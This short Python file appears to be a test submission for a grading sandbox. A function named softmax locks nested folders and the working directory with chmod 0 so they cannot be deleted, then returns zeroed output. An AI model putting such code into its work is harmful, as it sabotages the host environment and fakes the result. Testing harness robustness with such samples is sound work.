"""Folders that nobody may enter or write, the working folder too, so that they cannot be deleted.

score: [83, 83]
verdict: [wrong_answer, run_time_error]
"""

import os


def softmax(logits):
    for number in range(3):
        os.makedirs(f"locked{number}/inside/deeper", exist_ok=True)
        open(f"locked{number}/inside/file", "w").close()
        os.chmod(f"locked{number}/inside", 0)
        os.chmod(f"locked{number}", 0o500)
    os.chmod(".", 0)
    return logits * 0.0
